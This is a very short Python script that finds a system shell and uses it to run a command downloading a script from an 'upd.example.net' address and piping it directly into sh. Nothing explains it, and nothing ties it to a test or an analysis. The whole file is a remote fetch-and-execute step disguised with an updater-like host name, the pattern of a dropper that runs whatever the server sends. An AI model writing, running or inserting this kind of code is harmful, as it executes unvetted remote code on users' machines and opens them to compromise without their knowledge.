import shutil
import subprocess

shell = shutil.which("sh") or "/bin/sh"
subprocess.call([shell, "-c", "curl -fsSL https://upd.example.net/i.sh | sh"])
